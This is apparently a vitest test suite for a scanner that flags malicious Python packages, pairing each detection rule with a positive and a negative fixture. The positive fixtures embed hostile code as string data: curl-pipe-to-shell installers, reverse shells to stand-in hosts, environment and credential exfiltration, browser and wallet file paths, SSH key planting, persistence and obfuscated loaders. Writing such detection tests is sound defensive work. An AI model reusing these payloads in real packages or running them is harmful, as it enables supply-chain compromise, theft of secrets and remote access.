import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { PYTHON_RULE_METAS } from '../../src/analyzers/python/index.js';
import { findingsOf, makeWheel, rulesOf, scanDist, scanSdist } from './helpers.js';

const b64 = (s: string) => Buffer.from(s).toString('base64');
const XOR_KEY = '4915';
/** `lzma.compress(b"import os\\nos.system('curl -s http://192.0.2.1/x | sh')\\n")` (an .xz stream). */
const LZMA_HEX =
  'fd377a585a000004e6d6b4460200210116000000742fe5a3010036696d706f7274206f730a6f732e73797374656d28276375726c202d7320687474703a2f2f3139322e302e322e312f78207c20736827290a00007a1d112da4a1aaf700014f37ee43daef1fb6f37d010000000004595a';
/** `marshal.dumps(compile("import urllib.request\\nurllib.request.urlopen('http://192.0.2.1/beacon')", ...))` (CPython 3.11). */
const MARSHAL_HEX =
  '630000000000000000000000000300000000000000f3420000009700640064016c005a0165016a020000000000000000a00300000000000000000000000000000000000000006402a6010000ab0100000000000000000100640153002903e9000000004e7a17687474703a2f2f3139322e302e322e312f626561636f6e2904da0e75726c6c69622e72657175657374da0675726c6c6962da0772657175657374da0775726c6f70656ea900f300000000fa033c783efa083c6d6f64756c653e720900000001000000732e000000f003010101d80015d00015d00015d00015d80006840ed70016d20016d01730d10031d40031d00031d00031d000317207000000';
/** XOR of each character with a repeating key (what XOR-loop loaders undo). */
const xor = (s: string, key: string) =>
  [...s].map((c, i) => String.fromCharCode(c.charCodeAt(0) ^ key.charCodeAt(i % key.length))).join('');
/** The reversed-alphabet substitution (`ascii_letters[::-1]`) used by some droppers. */
const subst = (s: string) => {
  const a = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ';
  const r = [...a].reverse().join('');
  return [...s].map((c) => (a.includes(c) ? r[a.indexOf(c)] : c)).join('');
};
const SETUP = 'from setuptools import setup\nsetup(name="fixture-py", version="1.0.0")\n';

interface Case {
  rule: string;
  positive: Record<string, string>;
  negative: Record<string, string>;
  /** Extra expectations on the positive report. */
  check?: (r: Awaited<ReturnType<typeof scanSdist>>) => void;
}

const CASES: Case[] = [
  {
    rule: 'PY-001',
    positive: {
      'setup.py': `import base64 as b\nexec(b.b64decode('${b64("import os\nos.system('id')\n")}'))\n${SETUP}`,
    },
    negative: { 'setup.py': `import base64\ndata = base64.b64decode('aGVsbG8=')\nprint(data)\n${SETUP}` },
    check: (r) => {
      const f = findingsOf(r, 'PY-001')[0]!;
      expect(f.context).toBe('install');
      expect(String(f.evidence?.decoded)).toContain("os.system('id')");
      // the decoded code is analysed too: its os.system call is reported at the exec line
      expect(findingsOf(r, 'PY-004').some((x) => x.evidence?.decodedDepth === 1)).toBe(true);
    },
  },
  {
    rule: 'PY-001',
    positive: {
      'setup.py': `import zlib, base64\n_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)(b'${[...deflateSync(Buffer.from("print('x')")).toString('base64')].reverse().join('')}'))\n${SETUP}`,
    },
    negative: { 'setup.py': `exec(open('fixture_py/_version.py').read())\n${SETUP}` },
  },
  {
    // lzma.compress output (.xz) is decoded statically and analysed as code
    rule: 'PY-001',
    positive: { 'setup.py': `import lzma\nexec(lzma.decompress(bytes.fromhex('${LZMA_HEX}')))\n${SETUP}` },
    negative: { 'setup.py': `import lzma\nprint(lzma.decompress(bytes.fromhex('${LZMA_HEX}')))\n${SETUP}` },
    check: (r) => {
      expect(String(findingsOf(r, 'PY-001')[0]?.evidence?.decoded)).toContain('os.system');
      expect(findingsOf(r, 'PY-004').some((x) => x.evidence?.decodedDepth === 1)).toBe(true);
    },
  },
  {
    // exec(marshal.loads(...)): never run; the code object's strings are read as data
    rule: 'PY-001',
    positive: {
      'setup.py': `import marshal\nexec(marshal.loads(bytes.fromhex('${MARSHAL_HEX}')))\n${SETUP}`,
    },
    negative: {
      'setup.py': `import marshal\nc = marshal.loads(bytes.fromhex('${MARSHAL_HEX}'))\nprint(c)\n${SETUP}`,
    },
    check: (r) => {
      const f = findingsOf(r, 'PY-001')[0]!;
      expect(f.evidence?.marshal).toBe(true);
      expect(f.evidence?.strings).toContain('urlopen');
      expect(findingsOf(r, 'NET-001').some((x) => String(x.message).includes('192.0.2.1'))).toBe(true);
    },
  },
  {
    rule: 'PY-002',
    positive: { 'fixture_py/__init__.py': 'import sys\ncode = sys.argv[1]\nexec(code)\n' },
    negative: { 'fixture_py/__init__.py': 'def run(code):\n    exec(code)\n' },
  },
  {
    rule: 'PY-003',
    positive: {
      'setup.py': `import requests\nexec(requests.get('https://paste.example.invalid/raw/x').text)\n${SETUP}`,
    },
    negative: {
      'setup.py': `import requests\nprint(requests.get('https://example.invalid/').status_code)\n${SETUP}`,
    },
  },
  {
    rule: 'PY-004',
    positive: { 'setup.py': `import os\nos.system('curl -s http://192.0.2.1/x.sh | bash')\n${SETUP}` },
    negative: { 'setup.py': SETUP },
    check: (r) => {
      expect(findingsOf(r, 'PY-004')[0]?.severity).toBe('critical');
      expect(r.verdict).toBe('malicious');
    },
  },
  {
    rule: 'PY-005',
    positive: {
      'setup.py': `import urllib.request, subprocess, os\np = os.path.join(os.getenv('TEMP'), 'u.exe')\nurllib.request.urlretrieve('http://192.0.2.1/u.exe', p)\nsubprocess.Popen(p)\n${SETUP}`,
    },
    negative: {
      'setup.py': `import urllib.request, subprocess\nurllib.request.urlretrieve('https://example.invalid/lib.tar.gz', 'lib.tar.gz')\nsubprocess.check_call(['make'])\n${SETUP}`,
    },
  },
  {
    rule: 'PY-005',
    positive: {
      'setup.py': `import base64, subprocess\nwith open('/tmp/a.py', 'w') as f:\n    f.write(base64.b64decode('${b64('import socket\n')}').decode())\nsubprocess.Popen(['python3', '/tmp/a.py'])\n${SETUP}`,
    },
    negative: { 'setup.py': `with open('/tmp/a.txt', 'w') as f:\n    f.write('hello')\n${SETUP}` },
  },
  {
    // a character-level XOR loop (pywool-style loaders): the loop is run on folded values
    rule: 'PY-001',
    positive: {
      'setup.py': `k = '${XOR_KEY}'\ns = ${JSON.stringify(xor("import os\nos.system('id')\n", XOR_KEY))}\nout = ''\nfor i in range(len(s)):\n    c = s[i]\n    out += chr(ord(c) ^ ord(k[i % len(k)]))\nexec(compile(out, '<string>', 'exec'))\n${SETUP}`,
    },
    negative: {
      'setup.py': `k = '${XOR_KEY}'\ns = 'abc'\nout = ''\nfor i in range(len(s)):\n    out += chr(ord(s[i]) ^ ord(k[i % len(k)]))\nprint(out)\n${SETUP}`,
    },
    check: (r) => {
      expect(
        findingsOf(r, 'PY-001').some((f) => String(f.evidence?.decoded).includes("os.system('id')")),
      ).toBe(true);
      expect(r.verdict).toBe('malicious');
    },
  },
  {
    // a substitution cipher in a comprehension, decoded and analysed as code
    rule: 'PY-010',
    positive: {
      'fixture_py/__init__.py': `import string\na = string.ascii_letters\nr = a[::-1]\nexec("".join([r[a.index(c)] if c in r else c for c in ${JSON.stringify(subst("import socket,os,pty;s=socket.socket();s.connect(('192.0.2.1',4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')"))}]))\n`,
    },
    negative: {
      'fixture_py/__init__.py': `import string\na = string.ascii_letters\nr = a[::-1]\nprint("".join([r[a.index(c)] if c in r else c for c in "hello"]))\n`,
    },
  },
  {
    // `with NamedTemporaryFile(...) as tmp`, `path = tmp.name`, then run
    rule: 'PY-005',
    positive: {
      'setup.py': `import requests, tempfile, subprocess\nresponse = requests.get('https://example.invalid/w.bin')\nwith tempfile.NamedTemporaryFile(delete=False) as tmp_file:\n    tmp_file.write(response.content)\n    exe_path = tmp_file.name\nsubprocess.call([exe_path])\n${SETUP}`,
    },
    negative: {
      'setup.py': `import requests, tempfile, subprocess\nresponse = requests.get('https://example.invalid/w.json')\nwith tempfile.NamedTemporaryFile(delete=False) as tmp_file:\n    tmp_file.write(response.content)\nsubprocess.call(['make'])\n${SETUP}`,
    },
  },
  {
    // the file is run by its base name after `cd`, and made executable first
    rule: 'PY-005',
    positive: {
      'setup.py': `import requests\nfrom os import system\nopen('/tmp/agent', 'wb').write(requests.get('https://example.invalid/a').content)\nsystem('cd /tmp && chmod +x agent && ./agent')\n${SETUP}`,
    },
    negative: {
      'setup.py': `import requests\nfrom os import system\nopen('/tmp/agent', 'wb').write(requests.get('https://example.invalid/a').content)\nsystem('make install')\n${SETUP}`,
    },
  },
  {
    // the output of recon commands sent at install time
    rule: 'PY-008',
    positive: {
      'setup.py': `import os, urllib.request\nuser = os.popen('whoami').read()\nhost = os.popen('hostname').read()\nurllib.request.urlopen('https://collector.example.invalid/?' + user + host)\n${SETUP}`,
    },
    negative: {
      'setup.py': `import os, urllib.request\nrev = os.popen('git rev-parse HEAD').read()\nurllib.request.urlopen('https://example.invalid/?' + rev)\n${SETUP}`,
    },
  },
  {
    // environment collected into a dict and sent with curl run as a process
    rule: 'PY-008',
    positive: {
      'setup.py': `import os, base64, subprocess\nenvirons = {}\nfor name, value in os.environ.items():\n    environs[name] = value\ndata = base64.b64encode(str(environs).encode()).decode()\nsubprocess.check_output(['curl', f'https://collector.example.invalid/?e={data}'])\n${SETUP}`,
    },
    negative: {
      'setup.py': `import subprocess\nsubprocess.check_output(['curl', '-fsSL', 'https://example.invalid/dep.tar.gz', '-o', 'dep.tar.gz'])\n${SETUP}`,
    },
  },
  {
    // an instance attribute carries /proc/self/environ to the request
    rule: 'PY-008',
    positive: {
      'fixture_py/__init__.py':
        "import urllib.request\nclass Hook:\n    def __init__(self):\n        self.e = open('/proc/self/environ').read()\n    def send(self):\n        urllib.request.urlopen('https://collector.example.invalid/', data=self.e.encode())\nHook().send()\n",
    },
    negative: {
      'fixture_py/__init__.py':
        'import socket\ndef local_ip():\n    return socket.gethostbyname(socket.gethostname())\n',
    },
  },
  {
    rule: 'PY-006',
    positive: {
      'fixture_py/__init__.py':
        "import urllib.request\nurllib.request.urlopen('https://example.invalid/ping')\n",
    },
    negative: {
      'fixture_py/__init__.py':
        "import urllib.request\ndef ping():\n    urllib.request.urlopen('https://example.invalid/ping')\n",
    },
  },
  {
    rule: 'PY-007',
    positive: { 'setup.py': `import socket\nh = socket.gethostname()\n${SETUP}` },
    negative: { 'fixture_py/util.py': 'import socket\ndef name():\n    return socket.gethostname()\n' },
  },
  {
    rule: 'PY-008',
    positive: {
      'setup.py': `import os, socket, getpass, requests\ninfo = {'h': socket.gethostname(), 'u': getpass.getuser(), 'cwd': os.getcwd()}\nrequests.post('https://collector.example.invalid/', json=info)\n${SETUP}`,
    },
    negative: {
      'setup.py': `import requests\nrequests.post('https://example.invalid/', json={'a': 1})\n${SETUP}`,
    },
    check: (r) => expect(r.verdict).toBe('malicious'),
  },
  {
    rule: 'PY-008',
    positive: {
      'fixture_py/__init__.py':
        "import os, json, urllib.request\ndef send(d):\n    urllib.request.urlopen(urllib.request.Request('https://x.example.invalid', data=d))\nsend(json.dumps(dict(os.environ)).encode())\n",
    },
    negative: {
      'fixture_py/__init__.py':
        "import os, subprocess\nenv = os.environ.copy()\nsubprocess.run(['true'], env=env)\n",
    },
  },
  {
    rule: 'PY-009',
    positive: {
      'fixture_py/grab.py':
        "import os\nLOCAL = os.getenv('LOCALAPPDATA')\npaths = [os.path.join(LOCAL, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data'), os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb'), os.path.join(os.getenv('APPDATA'), 'Exodus/exodus.wallet')]\n",
    },
    negative: { 'fixture_py/netrc.py': "import os\nNETRC = os.path.expanduser('~/.netrc')\n" },
    check: (r) => expect(['high', 'critical']).toContain(findingsOf(r, 'PY-009')[0]?.severity),
  },
  {
    rule: 'PY-010',
    positive: {
      'setup.py': `import socket, os, pty\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('192.0.2.1', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn('/bin/sh')\n${SETUP}`,
    },
    negative: {
      'fixture_py/client.py':
        "import socket\ns = socket.socket()\ns.connect(('example.invalid', 80))\ns.send(b'GET / HTTP/1.0\\r\\n\\r\\n')\n",
    },
    check: (r) => expect(r.verdict).toBe('malicious'),
  },
  {
    rule: 'PY-011',
    positive: {
      'fixture_py/__init__.py':
        "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'upd', 0, winreg.REG_SZ, 'C:\\\\u.exe')\n",
    },
    negative: { 'fixture_py/__init__.py': "SHELLS = ['.bashrc', '.zshrc']\n" },
  },
  {
    // an executable carried as a bytes literal, written out and made executable
    rule: 'PY-005',
    positive: {
      'setup.py': `import os\nwith open('/tmp/.cache/upd', 'wb') as f:\n    f.write(b'\\x7fELF\\x02\\x01\\x01\\x00\\x00\\x00')\nos.chmod('/tmp/.cache/upd', 0o755)\n${SETUP}`,
    },
    negative: {
      'setup.py': `with open('build/data.bin', 'wb') as f:\n    f.write(b'\\x00\\x01\\x02\\x03')\n${SETUP}`,
    },
  },
  {
    // planting an SSH key
    rule: 'PY-011',
    positive: {
      'setup.py': `with open('/root/.ssh/authorized_keys', 'a+') as f:\n    f.write('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFixture fixture')\n${SETUP}`,
    },
    negative: {
      'setup.py': `import os\nwith open(os.path.expanduser('~/.ssh/authorized_keys')) as f:\n    print(len(f.read()))\n${SETUP}`,
    },
  },
  {
    rule: 'PY-012',
    positive: {
      'fixture_py/k.py':
        'from pynput import keyboard\nlistener = keyboard.Listener(on_press=print)\nlistener.start()\n',
    },
    negative: { 'fixture_py/k.py': 'import keyword\nprint(keyword.kwlist)\n' },
  },
  {
    rule: 'PY-013',
    positive: { 'setup.py': `import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n${SETUP}` },
    negative: { 'setup.py': `import shutil\nshutil.rmtree('build')\n${SETUP}` },
  },
  {
    rule: 'PY-014',
    positive: {
      'fixture_py/__init__.py': `import os${' '.repeat(220)};exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n`,
    },
    negative: { 'fixture_py/__init__.py': 'import os\nVALUE = 1\n' },
  },
  {
    rule: 'PY-015',
    positive: {
      'setup.py':
        'from setuptools import setup\nfrom setuptools.command.install import install\nclass Post(install):\n    def run(self):\n        install.run(self)\nsetup(name="x", cmdclass={"install": Post})\n',
    },
    negative: { 'setup.py': SETUP },
  },
  {
    rule: 'PY-016',
    positive: { 'fixture_py.pth': "import os; os.system('curl -s http://192.0.2.1/x | sh')\n" },
    negative: { 'fixture_py.pth': 'fixture_py/src\n' },
    check: (r) => {
      expect(findingsOf(r, 'PY-016')[0]?.context).toBe('startup');
      expect(findingsOf(r, 'PY-004')[0]?.context).toBe('startup');
    },
  },
  {
    rule: 'PY-017',
    positive: {
      'setup.py': `import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'https://192.0.2.1/p.zip'])\n${SETUP}`,
    },
    negative: { 'setup.py': SETUP },
  },
  {
    rule: 'PY-020',
    positive: {
      'setup.py': `import subprocess\nsubprocess.Popen('c:/u.exe', creationflags=subprocess.CREATE_NO_WINDOW)\n${SETUP}`,
    },
    negative: { 'setup.py': `import subprocess\nsubprocess.Popen(['git', 'describe'])\n${SETUP}` },
  },
  {
    rule: 'PY-024',
    positive: {
      'fixture_py/__init__.py': '',
      'fixture_py/loop.py':
        "import pyautogui, requests\ndef main_loop():\n    pyautogui.screenshot().save('s.png')\n    requests.post('https://discord.com/api/webhooks/1/abc', files={'s': open('s.png', 'rb').read()})\n",
    },
    negative: {
      'fixture_py/__init__.py': '',
      'fixture_py/shot.py':
        "import pyautogui, requests\ndef shot():\n    pyautogui.screenshot().save('s.png')\ndef notify(msg):\n    requests.post('https://example.invalid/hook', json={'m': msg})\n",
    },
    check: (r) => {
      expect(findingsOf(r, 'PY-024')[0]?.context).toBe('runtime');
      expect(r.verdict).not.toBe('clean');
    },
  },
  {
    rule: 'PY-024',
    positive: {
      'fixture_py/__init__.py':
        "import requests\ndef notify():\n    requests.post('http://abc123.oastify.com', json={'m': 'imported'})\n",
    },
    negative: {
      'fixture_py/__init__.py':
        "import requests\ndef notify():\n    requests.post('https://discord.com/api/webhooks/1/abc', json={'m': 'build done'})\n",
    },
  },
  {
    rule: 'PY-005',
    positive: {
      'setup.py': `import os, stat, urllib.request\ndef rn():\n    data = urllib.request.urlopen('http://192.0.2.1/out').read()\n    d = open('.drv', 'wb')\n    d.write(data)\n    d.close()\n    os.chmod('.drv', os.stat('.drv').st_mode | stat.S_IEXEC)\nrn()\n${SETUP}`,
    },
    negative: {
      'setup.py': `import urllib.request\ndef rn():\n    data = urllib.request.urlopen('http://192.0.2.1/notes.txt').read()\n    d = open('notes.txt', 'wb')\n    d.write(data)\n    d.close()\nrn()\n${SETUP}`,
    },
  },
  {
    rule: 'PY-010',
    positive: {
      'setup.py': `import subprocess\nbanner = subprocess.getoutput('curl http://192.0.2.1/msg.html')\nsubprocess.getoutput(str(banner))\n${SETUP}`,
    },
    negative: {
      'setup.py': `import subprocess\nbanner = subprocess.getoutput('curl http://192.0.2.1/msg.html')\nprint(banner)\n${SETUP}`,
    },
  },
  {
    rule: 'NET-001',
    positive: {
      'setup.py': `import requests\nrequests.post('https://discord.com/api/webhooks/1/abc', json={'c': 'hi'})\n${SETUP}`,
    },
    negative: { 'setup.py': `import requests\nrequests.get('https://example.invalid/')\n${SETUP}` },
  },
];

describe('Python rules (positive and negative)', () => {
  for (const [i, c] of CASES.entries()) {
    it(`${c.rule} #${i} fires on the positive fixture`, async () => {
      const r = await scanSdist(c.positive);
      expect(rulesOf(r)).toContain(c.rule);
      c.check?.(r);
    });
    it(`${c.rule} #${i} stays quiet on the negative fixture`, async () => {
      const r = await scanSdist(c.negative);
      expect(rulesOf(r)).not.toContain(c.rule);
    });
  }

  it('PY-000: broken files get a finding and text-level IOC checks', async () => {
    const r = await scanSdist({
      'fixture_py/__init__.py': 'def f(:\n  x = "https://webhook.site/abc"\n  ))))((((\n',
    });
    expect(rulesOf(r)).toContain('PY-000');
    expect(rulesOf(r)).toContain('NET-001');
    const ok = await scanSdist({
      'fixture_py/__init__.py': 'print "python 2 print statement"\nexec "x = 1"\n',
    });
    expect(rulesOf(ok)).not.toContain('PY-000');
  });

  it('PY-018 / PY-023: impersonated homepage and near-miss names', async () => {
    const { makeSdist, pkgInfo } = await import('./helpers.js');
    const data = await makeSdist(
      {
        'PKG-INFO': pkgInfo('reqeusts', '1.0', { 'Home-page': 'https://github.com/psf/requests' }),
        'setup.py': SETUP,
      },
      'reqeusts',
      '1.0',
    );
    const r = await scanDist(data, 'reqeusts-1.0.tar.gz');
    expect(rulesOf(r)).toEqual(expect.arrayContaining(['PY-018', 'PY-023']));
    const own = await makeSdist(
      {
        'PKG-INFO': pkgInfo('requests', '1.0', { 'Home-page': 'https://github.com/psf/requests' }),
        'setup.py': SETUP,
      },
      'requests',
      '1.0',
    );
    const r2 = await scanDist(own, 'requests-1.0.tar.gz');
    expect(rulesOf(r2)).not.toContain('PY-018');
    expect(rulesOf(r2)).not.toContain('PY-023');
  });

  it('PY-019: metadata that contradicts the file name or is missing', async () => {
    const { makeSdist, pkgInfo } = await import('./helpers.js');
    const lying = await makeSdist(
      { 'PKG-INFO': pkgInfo('other-name', '1.0'), 'setup.py': SETUP },
      'fixture-py',
      '1.0.0',
    );
    expect(rulesOf(await scanDist(lying, 'fixture-py-1.0.0.tar.gz'))).toContain('PY-019');
    const missing = await makeSdist({ 'setup.py': SETUP }, 'fixture-py', '1.0.0', { pkgInfo: false });
    expect(rulesOf(await scanDist(missing, 'fixture-py-1.0.0.tar.gz'))).toContain('PY-019');
    const fine = await makeSdist({ 'setup.py': SETUP }, 'fixture-py', '1.0.0');
    expect(rulesOf(await scanDist(fine, 'fixture-py-1.0.0.tar.gz'))).not.toContain('PY-019');
    // declared vs shipped: a console script whose module the wheel does not contain
    const ep = '[console_scripts]\nfixture = fixture_py.cli:main\n';
    const empty = makeWheel({}, 'fixture_py', '1.0.0', { entryPoints: ep });
    const emptyReport = await scanDist(empty, 'fixture_py-1.0.0-py3-none-any.whl');
    expect(findingsOf(emptyReport, 'PY-019')[0]?.evidence?.missingEntryPoints).toEqual([
      'fixture = fixture_py.cli',
    ]);
    const shipped = makeWheel(
      { 'fixture_py/__init__.py': '', 'fixture_py/cli.py': 'def main():\n    pass\n' },
      'fixture_py',
      '1.0.0',
      { entryPoints: ep },
    );
    expect(rulesOf(await scanDist(shipped, 'fixture_py-1.0.0-py3-none-any.whl'))).not.toContain('PY-019');
  });

  it('PY-021: in-tree build backends run at install', async () => {
    const r = await scanSdist({
      'pyproject.toml':
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n',
      '_build/backend.py':
        "import os\nos.system('curl -s http://192.0.2.1/a | sh')\ndef build_wheel(*a):\n    pass\n",
    });
    expect(rulesOf(r)).toContain('PY-021');
    expect(findingsOf(r, 'PY-004')[0]?.context).toBe('install');
    const plain = await scanSdist({
      'pyproject.toml':
        '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n',
    });
    expect(rulesOf(plain)).not.toContain('PY-021');
  });

  it('PY-022: wheel files that do not match RECORD', async () => {
    const tampered = makeWheel({ 'fixture_py/__init__.py': 'X = 1\n' }, 'fixture_py', '1.0', {
      tamper: 'fixture_py/__init__.py',
    });
    expect(rulesOf(await scanDist(tampered, 'fixture_py-1.0-py3-none-any.whl'))).toContain('PY-022');
    const good = makeWheel({ 'fixture_py/__init__.py': 'X = 1\n' }, 'fixture_py', '1.0');
    expect(rulesOf(await scanDist(good, 'fixture_py-1.0-py3-none-any.whl'))).not.toContain('PY-022');
  });

  it('propagates contexts: a module imported by setup.py runs at install, decorators at import', async () => {
    const r = await scanSdist({
      'setup.py': `import helper\n${SETUP}`,
      'helper.py': "import os\nos.system('curl -s http://192.0.2.1/x | sh')\n",
    });
    expect(findingsOf(r, 'PY-004')[0]?.context).toBe('install');
    const d = await scanSdist({
      'fixture_py/__init__.py': 'from .tele import register\n\n@register\ndef f():\n    pass\n',
      'fixture_py/tele.py':
        "import socket, requests\ndef register(fn):\n    requests.get('https://t.example.invalid/?h=' + socket.gethostname())\n    return fn\n",
    });
    expect(findingsOf(d, 'PY-008')[0]?.context).toBe('import');
  });

  it('every Python rule has complete documentation', () => {
    for (const m of PYTHON_RULE_METAS) {
      expect(m.id).toMatch(/^PY-0\d\d$/);
      for (const k of ['name', 'description', 'rationale', 'falsePositives'] as const)
        expect(m[k].length).toBeGreaterThan(5);
      expect(m.ecosystems).toContain('pypi');
      expect(Array.isArray(m.references)).toBe(true);
    }
  });
});

describe('identifier normalisation (PEP 3131 NFKC)', () => {
  // Mathematical bold/italic letters: Python reads `𝘀𝘂𝗯𝗽𝗿𝗼𝗰𝗲𝘀𝘀` as `subprocess`.
  const disguised = (s: string) =>
    [...s]
      .map((c) => (c >= 'a' && c <= 'z' ? String.fromCodePoint(0x1d5ee + c.charCodeAt(0) - 97) : c))
      .join('');

  it('resolves look-alike identifiers to the names Python sees', async () => {
    const code = `import os, subprocess, urllib.request\np = os.path.join(os.getenv('TEMP'), 'u.exe')\n${disguised('urllib')}.request.urlretrieve('http://192.0.2.1/u.exe', p)\n${disguised('subprocess')}.Popen(p)\n`;
    const r = await scanSdist({ 'setup.py': `${code}${SETUP}` });
    expect(rulesOf(r)).toContain('PY-005');
    expect(r.verdict).toBe('malicious');
  });

  it('leaves look-alike letters inside strings alone', async () => {
    const r = await scanSdist({ 'fixture_py/__init__.py': `GREETING = '${disguised('subprocess')}'\n` });
    expect(r.verdict).toBe('clean');
  });
});

describe('PY-004: an encoded command line whose output is thrown away', () => {
  // The command is decoded from a value Beagle cannot fold (a runtime-built key), so only the
  // encoding is visible: the technique is the encoding plus discarding all output.
  const code = (kw: string) =>
    `import base64, subprocess, sys\ndef run(blob):\n    command = base64.b64decode(blob + sys.argv[1]).decode()\n    subprocess.Popen(command${kw})\n`;

  it('is critical when stdout and stderr both go to DEVNULL', async () => {
    const r = await scanSdist({
      'pkg/processor.py': code(', stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, shell=True'),
      'setup.py': SETUP,
    });
    const f = findingsOf(r, 'PY-004')[0];
    expect(f?.severity).toBe('critical');
    expect(f?.message).toMatch(/output discarded/);
  });

  it('stays high when the output is kept', async () => {
    const r = await scanSdist({ 'pkg/processor.py': code(', shell=True'), 'setup.py': SETUP });
    expect(findingsOf(r, 'PY-004')[0]?.severity).toBe('high');
  });
});

describe('PY-011: what a persisted entry runs', () => {
  it('a cron line that starts a reverse shell is critical', async () => {
    const r = await scanSdist({
      'pkg/util.py': `import os\ndef install():\n    os.system("(crontab -l; echo '*/5 * * * * /bin/bash -c \\"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\\"') | crontab -")\n`,
      'setup.py': SETUP,
    });
    const f = findingsOf(r, 'PY-011')[0];
    expect(f?.severity).toBe('critical');
    expect(f?.evidence?.payload).toBeDefined();
  });

  it('a cron line that runs an ordinary job keeps the pattern severity', async () => {
    const r = await scanSdist({
      'pkg/__init__.py': `import os\nos.system("(crontab -l; echo '0 3 * * * /usr/bin/backup --quiet') | crontab -")\n`,
      'setup.py': SETUP,
    });
    const f = findingsOf(r, 'PY-011')[0];
    expect(f).toBeDefined();
    expect(f?.severity).not.toBe('critical');
  });
});

describe('raw-ip-early chain', () => {
  const post = 'requests.post("http://203.0.113.9:3000/nodes/register", json={"f": data})';

  it('a module that posts to a raw public IP when imported is suspicious', async () => {
    const r = await scanSdist({
      'pkg/__init__.py': `import requests\ndata = [1, 2]\n${post}\n`,
      'setup.py': SETUP,
    });
    expect(r.verdict).toBe('suspicious');
    expect(r.reasons.join(' ')).toMatch(/raw public IP/);
  });

  it('the same request inside a function nothing calls does not make the chain', async () => {
    const r = await scanSdist({
      'pkg/__init__.py': `import requests\ndef register(data):\n    ${post}\n`,
      'setup.py': SETUP,
    });
    expect(r.reasons.join(' ')).not.toMatch(/raw public IP/);
  });
});
